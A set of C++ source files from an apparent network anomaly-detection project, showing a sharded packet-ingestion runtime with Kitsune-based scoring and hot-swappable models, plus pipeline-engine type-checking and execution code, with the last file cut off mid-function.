// private scorer or operator chain, so its FlatMap arenas are touched by
// exactly one thread and the hot path crosses no mutex at all. A live
// ModelSlot lets deploy() hot-swap a retrained scorer into running shards
// without draining traffic. See docs/framework.md "Sharded ingestion &
// hot-swap" for the memory-order and equivalence arguments.
//
// Threading follows common/parallel.h conventions: consumers are dedicated
// threads (they are long-running, so they must not occupy the shared
// ThreadPool's workers), completion is join-based, and the first exception
// thrown by any consumer is captured and rethrown on the caller after every
// thread has drained.
#pragma once

#include <atomic>
#include <condition_variable>
#include <cstdint>
#include <deque>
#include <functional>
#include <memory>
#include <mutex>
#include <span>
#include <string>
#include <unordered_map>
#include <vector>

#include "common/model_slot.h"
#include "common/telemetry.h"
#include "core/stream.h"
#include "netio/frontend.h"
#include "netio/source.h"

namespace lumen::core {

/// What to do when a producer pushes into a full queue.
enum class OverflowPolicy : uint8_t {
  kBlock,       // wait for a consumer to free a slot (lossless, backpressure)
  kDropOldest,  // evict the oldest queued packet (bounded latency, lossy)
  /// Shed the INCOMING packet (bounded latency, lossy). This is the only
  /// lossy policy an SPSC shard ring can implement — its producer cannot
  /// evict the head the consumer owns — so Options::normalized rewrites
  /// kDropOldest to kDropNewest in sharded mode with a named diagnostic
  /// and a `<prefix>policy_degraded` counter bump, instead of the historic
  /// silent degradation. Shed packets still count enqueued AND dropped,
  /// preserving scored + parse_skipped == enqueued - dropped.
  kDropNewest,
};

const char* overflow_policy_name(OverflowPolicy p);

/// Bounded MPSC-style ring queue of packets. push() honors the overflow
/// policy; pop() blocks until a packet arrives or the queue is closed and
/// empty. Thread-safe for any number of producers and consumers.
class BoundedPacketQueue {
 public:
  BoundedPacketQueue(size_t capacity, OverflowPolicy policy);

  /// Enqueue one packet. Returns false only when the queue was closed
  /// before a slot became available. Implemented as offer()+wait_notfull()
  /// loops, so push semantics are exactly the non-blocking primitives'.
  bool push(netio::SourcePacket p);

  /// Non-blocking enqueue honoring the overflow policy: kAccepted (taken),
  /// kShed (queue full under a drop policy — for kDropOldest the oldest
  /// packet was evicted and `p` taken, for kDropNewest `p` itself was
  /// discarded; a drop is counted either way), kBusy (full under kBlock;
  /// `p` untouched — retry after wait_notfull()), kClosed.
  netio::FeedStatus offer(netio::SourcePacket&& p);

  /// Block until the queue has room or is closed; true when room exists.
  bool wait_notfull();

  /// Dequeue one packet, blocking while the queue is open and empty.
  /// Returns false when the queue is closed and fully drained.
  bool pop(netio::SourcePacket& out);

  /// Dequeue up to `max` packets under one lock acquisition, appending to
  /// `out` (cleared first). Blocks while the queue is open and empty;
  /// returns the number popped, 0 only when closed and fully drained.
  /// Batching is what lets consumer throughput scale: one mutex round-trip
  /// amortizes over the whole batch instead of being paid per packet.
  size_t pop_batch(std::vector<netio::SourcePacket>& out, size_t max);

  /// Close the queue: pending packets remain poppable, further push()es
  /// fail, and blocked producers/consumers wake up.
  void close();

  /// Mirror queue state into telemetry instruments: `depth` tracks the live
  /// queue length, `high_water` its running maximum, and `dropped` counts
  /// drop-oldest evictions — all updated under the queue lock the operation
  /// already holds, so scrapers see them while a run is in flight (the old
  /// IngestStats snapshots only updated after the run finished). Any
  /// pointer may be null. Drops that happened before attachment are folded
  /// into the counter on attach, so mirror and dropped() agree from that
  /// point on no matter when telemetry arrived relative to traffic — the
  /// same locked bookkeeping (note_drop_locked) serves both, making the
  /// mirror update atomic with the drop decision.
  void attach_telemetry(telemetry::Gauge* depth, telemetry::Gauge* high_water,
                        telemetry::Counter* dropped);

  size_t capacity() const { return capacity_; }
  uint64_t dropped() const;
  size_t high_water() const;

 private:
  void note_size_locked();  // update depth/high-water mirrors under mu_
  void note_drop_locked();  // count a drop + mirror it, atomically under mu_

  const size_t capacity_;
  const OverflowPolicy policy_;
  mutable std::mutex mu_;
  std::condition_variable not_full_;
  std::condition_variable not_empty_;
  std::deque<netio::SourcePacket> q_;
  uint64_t dropped_ = 0;
  uint64_t mirrored_dropped_ = 0;  // drops already forwarded to the counter
  size_t high_water_ = 0;
  bool closed_ = false;
  telemetry::Gauge* depth_gauge_ = nullptr;
  telemetry::Gauge* high_water_gauge_ = nullptr;
  telemetry::Counter* dropped_counter_ = nullptr;
};

/// Uniform consumer-side view over the two packet conduits — the shared
/// BoundedPacketQueue and a shard's private SpscRing — so the consume
/// loops are written once against claim() semantics.
class PacketFeed {
 public:
  virtual ~PacketFeed() = default;

  /// Claim up to `max` packets into `out` (cleared first), blocking while
  /// the conduit is open and empty. Returns the number claimed; 0 only at
  /// end-of-stream (closed and fully drained).
  virtual size_t claim(std::vector<netio::SourcePacket>& out, size_t max) = 0;
};

/// Routes raw frames to shards by their canonical flow identity, computed
/// from a light header peek (no full parse): for IPv4-over-Ethernet the
/// order-independent IP-pair channel key — exactly the `chan` key
/// core/kitsune_extractor.cpp groups flow state by — hashed with the same
/// splitmix64 finalizer FlatMap uses (common/flat_map.h); non-IP Ethernet
/// frames fall back to the source MAC (their only extractor context);
/// 802.11 frames use the transmitter address (addr2); frames too short to
/// carry either land on shard 0 (they fail the full parse downstream
/// anyway). shard_of() is a pure function of (frame bytes, link type,
/// shard count): the partition is deterministic across runs, ring sizes,
/// and pacing — the invariant the sharded equivalence tests build on.
class FlowShardRouter {
 public:
  FlowShardRouter(size_t shards, netio::LinkType link)
      : shards_(shards == 0 ? 1 : shards), link_(link) {}

  size_t shards() const { return shards_; }

  size_t shard_of(const netio::RawPacket& pkt) const {
    if (shards_ <= 1) return 0;
    // Multiply-shift range reduction on the high hash bits (no modulo).
    return static_cast<size_t>(((flow_hash(pkt) >> 32) * shards_) >> 32);
  }

  /// The 64-bit flow hash shard_of() reduces; exposed for balance tests.
  uint64_t flow_hash(const netio::RawPacket& pkt) const;

 private:
  size_t shards_;
  netio::LinkType link_;
};

/// Counters exported by a runtime run. `enqueued` counts packets accepted
/// from the source; `dropped` those evicted by kDropOldest; `parse_skipped`
/// malformed frames consumers could not parse; `scored` packets that went
/// through a scorer; `alerted` scores above threshold.
///
/// DEPRECATION NOTE: this struct is now a compatibility façade over the
/// unified telemetry API (common/telemetry.h). IngestRuntime keeps its
/// counts in registry Counters (`<prefix>enqueued`, `<prefix>dropped`,
/// `<prefix>parse_skipped`, `<prefix>scored`, `<prefix>alerted`) plus queue
/// gauges and per-stage latency histograms; stats() reads those instruments
/// back (per-run deltas against a baseline captured at run start). New
/// consumers should scrape Options::registry instead.
struct IngestStats {
  uint64_t enqueued = 0;
  uint64_t dropped = 0;
  uint64_t parse_skipped = 0;
  uint64_t scored = 0;
  uint64_t alerted = 0;
  size_t queue_high_water = 0;
};

/// One alert emitted by a consumer.
struct Alert {
  double ts = 0.0;             // capture timestamp of the packet
  uint32_t capture_index = 0;  // index in the original capture
  double score = 0.0;
  double threshold = 0.0;
  size_t consumer = 0;  // which consumer thread scored it
  uint32_t tenant = 0;  // tenant the packet belonged to (0 = default)
};

/// Receives scored packets and alerts. The runtime serializes all calls
/// with an internal mutex, so implementations need no locking of their own.
/// Consumers buffer results locally and flush once per packet batch, so a
/// sink sees each consumer's packets in that consumer's consumption order,
/// with bounded (batch-sized) delivery delay.
class AlertSink {
 public:
  virtual ~AlertSink() = default;

  /// Called for every packet above threshold.
  virtual void on_alert(const Alert& alert) = 0;

  /// Called for every successfully scored packet (including alerts), in
  /// consumption order per consumer. Default: ignore.
  virtual void on_packet(const netio::PacketView& view, double score,
                         bool alerted) {}
};

/// Sink that just accumulates alerts (tests, benchmarks).
class CollectingSink : public AlertSink {
 public:
  void on_alert(const Alert& alert) override { alerts_.push_back(alert); }
  const std::vector<Alert>& alerts() const { return alerts_; }

 private:
  std::vector<Alert> alerts_;
};

/// Per-consumer scoring state. Each consumer owns one scorer, so
/// implementations may keep mutable streaming state without locking.
class PacketScorer {
 public:
  virtual ~PacketScorer() = default;
  virtual double score(const netio::PacketView& view) = 0;
  virtual double threshold() const = 0;

  /// Score a micro-batch in capture order: out[i] = score of views[i], as
  /// if score() had been called on each view in sequence. The consumer
  /// loop always scores through this entry point (in Options::score_batch
  /// chunks); scorers with a fused batch path override it. Contract for
  /// overrides: results must not depend on how a fixed view sequence is
  /// chopped into batches, so alert sets are invariant under score_batch
  /// tuning. Default: a score() loop (trivially batch-invariant).
  virtual void score_batch(std::span<const netio::PacketView> views,
                           double* out) {
    for (size_t i = 0; i < views.size(); ++i) out[i] = score(views[i]);
  }
};

/// OnlineKitsune as a PacketScorer. Copies the (typically pre-trained)
/// detector so every consumer scores with identical initial state.
class KitsuneScorer : public PacketScorer {
 public:
  explicit KitsuneScorer(OnlineKitsune detector)
      : detector_(std::move(detector)) {}

  double score(const netio::PacketView& view) override {
    return detector_.score_packet(view);
  }
  double threshold() const override { return detector_.threshold(); }

  /// Fused micro-batch scoring: stage the batch's feature rows and ride
  /// the packed SIMD kernels (see OnlineKitsune::score_packets for the
  /// batch-invariance guarantee).
  void score_batch(std::span<const netio::PacketView> views,
                   double* out) override {
    detector_.score_packets(views, out);
  }

 private:
  OnlineKitsune detector_;
};

/// Adapts any callable to a PacketScorer — the hook for scorers assembled
/// from core::Op pipelines or ad-hoc heuristics.
class FnScorer : public PacketScorer {
 public:
  FnScorer(std::function<double(const netio::PacketView&)> fn,
           double threshold)
      : fn_(std::move(fn)), threshold_(threshold) {}

  double score(const netio::PacketView& view) override { return fn_(view); }
  double threshold() const override { return threshold_; }

 private:
  std::function<double(const netio::PacketView&)> fn_;
  double threshold_;
};

/// Builds one scorer per consumer thread; called with the consumer id
/// before the stream starts.
using ScorerFactory =
    std::function<std::unique_ptr<PacketScorer>(size_t consumer_id)>;

// ---- streaming-pipeline sink mode (core/stream_op.h) ----

struct EpochBatch;
class StreamPipeline;

/// Receives the epoch batches a consumer's compiled operator chain emits.
/// The runtime serializes all calls with an internal mutex (like
/// AlertSink), so implementations need no locking of their own.
class EpochSink {
 public:
  virtual ~EpochSink() = default;
  virtual void on_epoch(const EpochBatch& batch, size_t consumer) = 0;
};

/// Builds one compiled operator chain per consumer thread (each consumer
/// owns its chain's mutable state, so no locking on the hot path); called
/// with the consumer id before the stream starts. Typically a thin wrapper
/// around compile_streaming on a shared spec + bindings.
using StreamPipelineFactory =
    std::function<std::unique_ptr<StreamPipeline>(size_t consumer_id)>;

/// The ingestion runtime. One run() drives a source to exhaustion:
///
///   IngestRuntime::Options opt;
///   opt.consumers = 2;
///   IngestRuntime rt(opt, factory, &sink);
///   auto stats = rt.run(source);
class IngestRuntime {
 public:
  struct Options {
    /// Slots in the shared queue (single-queue mode) or in EACH shard ring
    /// (sharded mode; rounded up to a power of two by SpscRing).
    size_t queue_capacity = 4096;
    /// In sharded mode an SPSC ring's producer cannot evict (the consumer
    /// owns the head), so kDropOldest is unimplementable there:
    /// normalized() rewrites it to kDropNewest with a named diagnostic and
    /// a `<prefix>policy_degraded` counter bump — no silent degradation.
    /// The accounting invariant (scored + parse_skipped == enqueued -
    /// dropped) holds under every policy; kBlock and kDropNewest behave
    /// identically in both modes.
    OverflowPolicy overflow = OverflowPolicy::kBlock;
    /// Consumer threads in single-queue mode. Ignored when shards > 0
    /// (sharded mode runs exactly one consumer per shard).
    size_t consumers = 1;
    /// 0 = single-queue mode (the default, behavior unchanged). N > 0 =
    /// flow-sharded mode: the producer routes every frame through a
    /// FlowShardRouter into N private SPSC rings, each drained by its own
    /// consumer thread with its own scorer/chain. Because the partition is
    /// by flow hash, a device's conversations stay on one shard and each
    /// shard's detector state is single-threaded by construction.
    size_t shards = 0;
    /// Packets a consumer claims per queue lock, and the flush threshold
    /// for its locally-buffered sink records. 1 reproduces the historic
    /// packet-at-a-time behaviour (same alerts either way; only lock
    /// amortization and sink-delivery latency change).
    size_t consumer_batch = 64;
    /// Rows per PacketScorer::score_batch call inside a claimed batch: the
    /// micro-batch size of the fused SIMD scoring path. Scores and alert
    /// sets are invariant under this knob (the score_batch contract); it
    /// only tunes throughput. 1 scores row-at-a-time through the same
    /// entry point — the baseline the bench/CI gate compares against.
    size_t score_batch = 64;
    /// Where this runtime's instruments live. Default: the process-wide
    /// registry, so a live gateway can be scraped mid-run. nullptr keeps
    /// the core accounting counters in a runtime-local registry (stats()
    /// still works) and skips the optional extras — queue gauges, stage
    /// latency histograms, and their clock reads — which is the cheapest
    /// mode and the baseline bench_telemetry measures overhead against.
    /// Same shape as Engine::Options.
    telemetry::Registry* registry = &telemetry::Registry::process();
    /// Prepended to every instrument name this runtime records. Give each
    /// embedded runtime its own prefix if several share one registry.
    std::string instrument_prefix = "ingest.";

    /// Clamp every field into its sane range in one pass, recording each
    /// adjustment in `*diagnostic` as one human-readable line (set to ""
    /// when nothing was clamped). The runtime normalizes exactly once at
    /// construction and emits the diagnostic to stderr — there are no
    /// scattered silent per-field clamps. Ranges: consumers/shards <= 256
    /// (threads, not pool workers), consumer_batch/score_batch in
    /// [1, 65536], queue_capacity in [1, 1 << 24].
    ///
    /// LUMEN_THREADS interaction: that variable sizes the shared
    /// common/parallel.h ThreadPool used INSIDE scorers (e.g. parallel
    /// dense kernels); it does not limit consumers/shards, which are
    /// dedicated long-running threads outside the pool. Oversubscription
    /// guidance: shards + LUMEN_THREADS should stay near the core count.
    static Options normalized(Options opts, std::string* diagnostic);
  };

  IngestRuntime(Options opts, ScorerFactory factory, AlertSink* sink);

  /// Pipeline sink mode: consumers feed parsed packets through compiled
  /// streaming operator chains (core/stream_op.h) instead of a bare
  /// PacketScorer — the full spec (grouping, windows, aggregates,
  /// normalization, model scoring) runs continuously on the live path.
  /// Each consumer owns one chain; completed epochs are handed to `sink`
  /// serialized under the runtime's mutex. In this mode `scored` counts
  /// packets fed to the chains and `alerted` counts alerted rows.
  IngestRuntime(Options opts, StreamPipelineFactory factory, EpochSink* sink);

  /// Drain `source` through the queue and the consumer threads. Blocks
  /// until the stream ends (or request_stop()) and every consumer has
  /// joined. Returns the run's statistics; an Error if a scorer could not
  /// be built. The first exception thrown by a consumer is rethrown here.
  /// Thin wrapper: adapts the source with a netio::ReplayDriver and calls
  /// the driver overload below — packet-for-packet identical semantics.
  Result<IngestStats> run(netio::PacketSource& source);

  /// Drive any netio::SourceDriver — the socket gateway front-end, a
  /// replay adapter, or custom push-based producers — into this runtime.
  /// The driver runs on the calling thread and pushes into a FrameFeed
  /// wrapping the queue (single-queue mode) or the shard router + rings
  /// (sharded mode) under the non-blocking backpressure contract
  /// documented in netio/frontend.h.
  Result<IngestStats> run(netio::SourceDriver& driver);

  /// Ask a running run() to wind down early (callable from any thread).
  /// The queue is closed; consumers drain what is already buffered.
  void request_stop() { stop_.store(true, std::memory_order_relaxed); }

  /// Hot-swap the scorer factory (callable from any thread, including
  /// while run() is in flight): each consumer rebuilds its scorer from the
  /// new factory at its next batch boundary, so a retrained model rolls
  /// into running shards without draining traffic. The packet path stays
  /// wait-free — detecting a deploy costs two atomic loads per batch (a
  /// ModelSlot epoch pin); the swap itself never blocks the producer or
  /// sibling consumers. Counted under `<prefix>swaps_applied` (one per
  /// consumer that rebuilt). Scorer mode only: pipeline-mode chains carry
  /// irreplaceable window state mid-stream, so there deploys only take
  /// effect for the next run().
  void deploy(ScorerFactory factory);

  /// Register a tenant with its own scorer factory BEFORE run(): packets
  /// whose SourcePacket::tenant matches score through a dedicated ModelSlot
  /// and dedicated per-consumer scorer instances, fully isolated from
  /// every other tenant's streaming state. Per-tenant counters
  /// (`<prefix>tenant<t>.scored/alerted/swaps_applied`) are created here.
  /// Returns false for tenant 0 (the default slot), a duplicate
  /// registration, a null factory, or a call while run() is in flight.
  /// Unregistered tenant ids still work: they score through per-tenant
  /// scorer instances built from the DEFAULT factory (isolated state, no
  /// dedicated slot or counters).
  bool register_tenant(uint32_t tenant, ScorerFactory factory);

  /// Hot-swap exactly one tenant's scorer (callable from any thread while
  /// run() is in flight): publishes into that tenant's ModelSlot, so
  /// consumers rebuild only that tenant's scorer at their next batch
  /// boundary — no other tenant's scorer or state is touched. tenant 0
  /// forwards to deploy(factory) (the default slot). Returns false if the
  /// tenant was never registered.
  bool deploy(uint32_t tenant, ScorerFactory factory);

  /// Consumer threads a run spawns: shards (one per shard) in sharded
  /// mode, else Options::consumers.
  size_t effective_consumers() const {
    return opts_.shards > 0 ? opts_.shards : opts_.consumers;
  }

  /// Statistics of the current (or last finished) run, read back from the
  /// registry instruments as deltas against the run-start baseline (see the
  /// IngestStats deprecation note).
  IngestStats stats() const;

  /// The registry this runtime records into (the configured one, or the
  /// runtime-local fallback when Options::registry was nullptr).
  telemetry::Registry& registry() const { return *reg_; }

 private:
  /// Per-shard instruments (`ingest.shard<i>.*`), resolved when extended
  /// telemetry is on and shards > 0.
  struct ShardInstruments {
    telemetry::Counter* routed = nullptr;
    telemetry::Counter* scored = nullptr;
    telemetry::Counter* alerted = nullptr;
    telemetry::Counter* parse_skipped = nullptr;
    telemetry::Gauge* ring_high_water = nullptr;
  };

  /// Per-tenant isolation state: a dedicated hot-swap slot plus the
  /// tenant's counters (created at register_tenant time). The map is
  /// immutable while run() is in flight, so consumers read it lock-free.
  struct TenantState {
    std::unique_ptr<ModelSlot<ScorerFactory>> slot;
    telemetry::Counter* scored = nullptr;
    telemetry::Counter* alerted = nullptr;
    telemetry::Counter* swaps_applied = nullptr;
  };

  void consume(size_t id, PacketFeed& feed,
               std::unique_ptr<PacketScorer> scorer, uint64_t scorer_version,
               netio::LinkType link);
  void consume_pipeline(size_t id, PacketFeed& feed, StreamPipeline& pipe,
                        netio::LinkType link);
  /// Shared run skeleton: conduits + driver on the calling thread +
  /// consumer threads running `consumer_body(id, feed, link)` + graceful
  /// drain/join/rethrow. Picks single-queue or sharded plumbing off
  /// opts_.shards; the two public modes only differ in what the body does
  /// per batch.
  Result<IngestStats> drive(
      netio::SourceDriver& driver,
      const std::function<void(size_t, PacketFeed&, netio::LinkType)>&
          consumer_body);
  Result<IngestStats> drive_single_queue(
      netio::SourceDriver& driver,
      const std::function<void(size_t, PacketFeed&, netio::LinkType)>&
          consumer_body);
  Result<IngestStats> drive_sharded(
      netio::SourceDriver& driver,
      const std::function<void(size_t, PacketFeed&, netio::LinkType)>&
          consumer_body);

  Options opts_;
  AlertSink* sink_;
  StreamPipelineFactory pipeline_factory_;  // pipeline mode (else empty)
  EpochSink* epoch_sink_ = nullptr;
  /// The scorer factory lives behind a hot-swap slot so deploy() can
  /// replace it while consumers run (see deploy()). Sized to
  /// effective_consumers(); consumers pin it once per batch.
  std::unique_ptr<ModelSlot<ScorerFactory>> scorer_slot_;
  /// Registered tenants (see register_tenant). Mutated only while no run
  /// is in flight; consumers and deploy(tenant, …) read it concurrently.
  std::unordered_map<uint32_t, TenantState> tenants_;
  std::atomic<bool> running_{false};
  std::atomic<bool> stop_{false};
  std::mutex sink_mu_;

  // Instruments (resolved once in the constructor; see Options::registry).
  telemetry::Registry local_reg_;  // fallback when opts_.registry == nullptr
  telemetry::Registry* reg_ = nullptr;
  bool extended_ = false;  // queue gauges + stage histograms active
  telemetry::Counter* enqueued_ = nullptr;
  telemetry::Counter* dropped_ = nullptr;
  telemetry::Counter* parse_skipped_ = nullptr;
  telemetry::Counter* scored_ = nullptr;
  telemetry::Counter* alerted_ = nullptr;
  telemetry::Counter* swaps_applied_ = nullptr;
  /// Bumped once per construction whose normalized() rewrote kDropOldest
  /// to kDropNewest for sharded mode (see OverflowPolicy::kDropNewest).
  telemetry::Counter* policy_degraded_ = nullptr;
  telemetry::Gauge* queue_depth_ = nullptr;
  telemetry::Gauge* queue_high_water_ = nullptr;
  std::vector<ShardInstruments> shard_instruments_;  // extended_ && sharded
  telemetry::Histogram* extract_ns_ = nullptr;
  telemetry::Histogram* score_ns_ = nullptr;
  telemetry::Histogram* flush_ns_ = nullptr;
  telemetry::Histogram* score_batch_rows_ = nullptr;

  /// Counter values at run() start: stats() reports deltas so the façade
  /// keeps its historic per-run semantics over cumulative instruments.
  struct Baseline {
    uint64_t enqueued = 0, dropped = 0, parse_skipped = 0, scored = 0,
             alerted = 0;
  };
  Baseline base_;
  size_t high_water_snapshot_ = 0;
};

}  // namespace lumen::core
