// Internal helpers shared by the ops_*.cpp translation units.
#pragma once

#include <functional>

#include "core/op.h"
#include "features/stats.h"

namespace lumen::core {

/// Operation implemented by a lambda; the registration macro-free way to
/// define the ~30 built-in ops without one class per op.
class LambdaOp : public Operation {
 public:
  using RunFn = std::function<Result<Value>(
      const OpSpec&, const std::vector<const Value*>&, OpContext&)>;

  LambdaOp(OpSpec spec, std::vector<ValueKind> in, ValueKind out, RunFn fn)
      : Operation(std::move(spec)),
        in_(std::move(in)),
        out_(out),
        fn_(std::move(fn)) {}

  std::vector<ValueKind> input_kinds() const override { return in_; }
  ValueKind output_kind() const override { return out_; }

  Result<Value> run(const std::vector<const Value*>& inputs,
                    OpContext& ctx) override {
    return fn_(spec_, inputs, ctx);
  }

 private:
  std::vector<ValueKind> in_;
  ValueKind out_;
  RunFn fn_;
};

/// Register `func` with fixed input/output kinds and a run lambda.
inline void register_simple(const std::string& func, std::vector<ValueKind> in,
                            ValueKind out, LambdaOp::RunFn fn) {
  OperationRegistry::instance().register_op(
      func, [in, out, fn](OpSpec spec) -> Result<OperationPtr> {
        return OperationPtr(
            std::make_unique<LambdaOp>(std::move(spec), in, out, fn));
      });
}

/// One aggregate column: `func` applied to `field` over a unit's packets.
struct AggSpec {
  std::string field;  // packet field; may be empty for count/rate
  std::string func;   // mean, std, min, max, median, sum, count, rate,
                      // bytes_rate, distinct, entropy, first, last, range
  std::string column_name() const {
    return field.empty() ? func : field + "_" + func;
  }
};

/// Parse params["list"]; falls back to a sensible default aggregate set.
std::vector<AggSpec> parse_agg_list(const Json& params);

/// Evaluate one aggregate over the packets `idx` of `ds`.
double compute_agg(const trace::Dataset& ds, const std::vector<uint32_t>& idx,
                   const AggSpec& agg);

/// Build a per-unit FeatureTable: one row per unit (a set of packet
/// indices), aggregate columns per `aggs`, labels/attack/time filled from
/// the dataset's packet ground truth.
features::FeatureTable table_from_units(
    const trace::Dataset& ds,
    const std::vector<std::vector<uint32_t>>& units,
    const std::vector<AggSpec>& aggs);

/// Fill per-row label/attack/unit_time metadata for a table whose row r
/// covers packet set units[r].
void fill_unit_metadata(const trace::Dataset& ds,
                        const std::vector<std::vector<uint32_t>>& units,
                        features::FeatureTable& t);

/// Typed input accessors (engine has already kind-checked, these are
/// defensive second checks with good error messages).
template <typename T>
Result<const T*> input_as(const std::vector<const Value*>& inputs, size_t i,
                          const std::string& op) {
  if (i >= inputs.size()) {
    return Error::make(op, "missing input #" + std::to_string(i));
  }
  const T* p = std::get_if<T>(inputs[i]);
  if (p == nullptr) {
    return Error::make(op, "input #" + std::to_string(i) + " has wrong kind");
  }
  return p;
}

}  // namespace lumen::core
