#include "core/engine.h"

#include <chrono>
#include <cstdio>
#include <set>

namespace lumen::core {

Result<void> Engine::type_check(const PipelineSpec& spec) const {
  register_builtin_operations();
  const OperationRegistry& reg = OperationRegistry::instance();

  std::map<std::string, ValueKind> env;
  for (size_t i = 0; i < spec.ops.size(); ++i) {
    const OpSpec& op = spec.ops[i];
    if (!reg.knows(op.func)) {
      return Error::make("type_check",
                         "op #" + std::to_string(i) + ": unknown operation '" +
                             op.func + "'");
    }
    // Instantiate to read the declared signature (factories are cheap).
    Result<OperationPtr> inst = reg.create(op);
    if (!inst.ok()) return inst.error();
    const std::vector<ValueKind> expected = inst.value()->input_kinds();
    if (op.inputs.size() > expected.size()) {
      return Error::make(
          "type_check", "op #" + std::to_string(i) + " ('" + op.func +
                            "'): got " + std::to_string(op.inputs.size()) +
                            " inputs, accepts at most " +
                            std::to_string(expected.size()));
    }
    for (size_t k = 0; k < op.inputs.size(); ++k) {
      auto it = env.find(op.inputs[k]);
      if (it == env.end()) {
        return Error::make("type_check",
                           "op #" + std::to_string(i) + " ('" + op.func +
                               "'): input '" + op.inputs[k] +
                               "' is not defined by any earlier operation");
      }
      if (expected[k] != ValueKind::kAny && it->second != expected[k]) {
        return Error::make(
            "type_check",
            "op #" + std::to_string(i) + " ('" + op.func + "'): input '" +
                op.inputs[k] + "' has kind " + value_kind_name(it->second) +
                " but the operation expects " + value_kind_name(expected[k]));
      }
    }
    env[op.output] = inst.value()->output_kind();
  }
  return {};
}

Result<PipelineReport> Engine::run(const PipelineSpec& spec,
                                   OpContext& ctx) const {
  Result<void> ok = type_check(spec);
  if (!ok.ok()) return ok.error();

  const OperationRegistry& reg = OperationRegistry::instance();

  // Last-use index per binding, for dead-value elimination.
  std::map<std::string, size_t> last_use;
  for (size_t i = 0; i < spec.ops.size(); ++i) {
    for (const std::string& in : spec.ops[i].inputs) last_use[in] = i;
  }
  const std::set<std::string> keep(opts_.keep.begin(), opts_.keep.end());

  PipelineReport report;
  std::map<std::string, Value> env;
  std::map<std::string, size_t> env_bytes;
  size_t live_bytes = 0;

  for (size_t i = 0; i < spec.ops.size(); ++i) {
    const OpSpec& op = spec.ops[i];
    Result<OperationPtr> inst = reg.create(op);
    if (!inst.ok()) return inst.error();

    std::vector<const Value*> inputs;
    inputs.reserve(op.inputs.size());
    for (const std::string& name : op.inputs) {
      auto it = env.find(name);
      if (it == env.end()) {
        return Error::make("engine", "op #" + std::to_string(i) +
                                         ": input '" + name +
                                         "' was freed or never produced");
      }
      inputs.push_back(&it->second);
    }

    const auto start = std::chrono::steady_clock::now();
    Result<Value> out = inst.value()->run(inputs, ctx);
    const auto stop = std::chrono::steady_clock::now();
    if (!out.ok()) {
      return Error::make("engine", "op #" + std::to_string(i) + " ('" +
                                       op.func + "'): " + out.error().message);
    }

    OpProfile prof;
    prof.func = op.func;
    prof.output = op.output;
    prof.seconds = std::chrono::duration<double>(stop - start).count();
    prof.output_bytes = value_bytes(out.value());

    // Rebinding replaces the old value.
    if (auto it = env.find(op.output); it != env.end()) {
      live_bytes -= env_bytes[op.output];
      env.erase(it);
    }
    live_bytes += prof.output_bytes;
    env_bytes[op.output] = prof.output_bytes;
    env.emplace(op.output, std::move(out).value());
    report.peak_bytes = std::max(report.peak_bytes, live_bytes);

    // Free bindings whose last consumer has now run.
    if (opts_.free_dead_values) {
      for (auto it = env.begin(); it != env.end();) {
        const std::string& name = it->first;
        auto lu = last_use.find(name);
        const bool consumed_out = lu != last_use.end() && lu->second <= i;
        const bool never_used = lu == last_use.end();
        if (consumed_out && !never_used && keep.count(name) == 0 &&
            name != op.output) {
          live_bytes -= env_bytes[name];
          for (OpProfile& p : report.profile) {
            if (p.output == name) p.freed_early = true;
          }
          it = env.erase(it);
        } else {
          ++it;
        }
      }
    }
    report.profile.push_back(std::move(prof));
  }

  report.bindings = std::move(env);
  return report;
}

std::string PipelineReport::profile_table() const {
  std::string out =
      "op                    output                time(ms)   out_bytes  freed\n";
  char line[160];
  for (const OpProfile& p : profile) {
    std::snprintf(line, sizeof(line), "%-21s %-21s %9.3f %11zu  %s\n",
                  p.func.c_str(), p.output.c_str(), p.seconds * 1e3,
                  p.output_bytes, p.freed_early ? "yes" : "no");
    out += line;
  }
  std::snprintf(line, sizeof(line), "peak resident: %zu bytes\n", peak_bytes);
  out += line;
  return out;
}

}  // namespace lumen::core
