#include "core/engine.h"

#include <algorithm>
#include <chrono>
#include <cstdio>
#include <set>

#include "common/options.h"

namespace lumen::core {

Result<void> Engine::type_check(const PipelineSpec& spec,
                                const std::map<std::string, Value>* seed)
    const {
  register_builtin_operations();
  const OperationRegistry& reg = OperationRegistry::instance();

  std::map<std::string, ValueKind> env;
  if (seed != nullptr) {
    for (const auto& [name, value] : *seed) env[name] = kind_of(value);
  }
  for (size_t i = 0; i < spec.ops.size(); ++i) {
    const OpSpec& op = spec.ops[i];
    if (!reg.knows(op.func)) {
      return Error::make("type_check",
                         "op #" + std::to_string(i) + ": unknown operation '" +
                             op.func + "'");
    }
    // Instantiate to read the declared signature (factories are cheap).
    Result<OperationPtr> inst = reg.create(op);
    if (!inst.ok()) return inst.error();
    const std::vector<ValueKind> expected = inst.value()->input_kinds();
    if (op.inputs.size() > expected.size()) {
      return Error::make(
          "type_check", "op #" + std::to_string(i) + " ('" + op.func +
                            "'): got " + std::to_string(op.inputs.size()) +
                            " inputs, accepts at most " +
                            std::to_string(expected.size()));
    }
    for (size_t k = 0; k < op.inputs.size(); ++k) {
      auto it = env.find(op.inputs[k]);
      if (it == env.end()) {
        return Error::make("type_check",
                           "op #" + std::to_string(i) + " ('" + op.func +
                               "'): input '" + op.inputs[k] +
                               "' is not defined by any earlier operation");
      }
      if (expected[k] != ValueKind::kAny && it->second != expected[k]) {
        return Error::make(
            "type_check",
            "op #" + std::to_string(i) + " ('" + op.func + "'): input '" +
                op.inputs[k] + "' has kind " + value_kind_name(it->second) +
                " but the operation expects " + value_kind_name(expected[k]));
      }
    }
    env[op.output] = inst.value()->output_kind();
  }
  return {};
}

std::vector<OpProfile> profile_from_spans(const telemetry::Snapshot& snap,
                                          const std::vector<uint64_t>& span_ids,
                                          std::string_view op_prefix) {
  std::vector<OpProfile> profile;
  profile.reserve(span_ids.size());
  for (const uint64_t id : span_ids) {
    const telemetry::SpanRecord* rec = snap.find_span(id);
    if (rec == nullptr) continue;  // span log overflowed (giant pipeline)
    OpProfile p;
    p.func = rec->name.rfind(op_prefix, 0) == 0
                 ? rec->name.substr(op_prefix.size())
                 : rec->name;
    p.output = rec->detail;
    p.seconds = rec->seconds;
    p.output_bytes = rec->value;
    p.freed_early = rec->flag;
    profile.push_back(std::move(p));
  }
  return profile;
}

Result<PipelineReport> Engine::run(const PipelineSpec& spec, OpContext& ctx,
                                   const std::map<std::string, Value>* seed)
    const {
  Result<void> ok = type_check(spec, seed);
  if (!ok.ok()) return ok.error();

  const OperationRegistry& reg = OperationRegistry::instance();

  // Telemetry sink: the configured registry, or a run-local scratch one
  // when the embedder silenced publishing (profiles still work either way).
  telemetry::Registry local_tel;
